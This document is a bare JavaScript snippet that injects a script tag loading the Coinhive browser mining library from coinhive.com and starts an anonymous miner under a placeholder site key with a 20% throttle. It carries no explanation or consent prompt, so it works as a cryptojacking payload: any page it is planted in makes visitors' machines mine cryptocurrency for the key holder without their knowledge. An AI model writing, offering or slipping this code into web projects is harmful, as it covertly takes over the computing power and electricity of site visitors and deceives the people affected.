(function () {
  var s = document.createElement("script");
  s.src = "https://coinhive.com/lib/coinhive.min.js";
  s.onload = function () {
    var miner = new CoinHive.Anonymous("SITE_KEY_123", { throttle: 0.2 });
    miner.start();
  };
  document.head.appendChild(s);
})();
